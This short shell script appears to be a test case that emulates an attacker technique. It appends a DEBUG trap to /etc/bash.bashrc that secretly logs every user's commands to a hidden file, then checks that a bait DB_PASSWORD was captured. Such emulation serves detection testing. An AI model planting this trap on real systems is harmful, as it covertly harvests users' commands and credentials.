#!/bin/sh
. /opt/case/case.sh

printf '%s\n' 'trap '"'"'printf "%s %s\n" "$(id -un)" "$BASH_COMMAND" >>/var/tmp/.cache-l'"'"' DEBUG' >>/etc/bash.bashrc
printf 'export DB_PASSWORD=bait\nexit\n' | bash -i 2>/dev/null
grep -q DB_PASSWORD /var/tmp/.cache-l
took_place
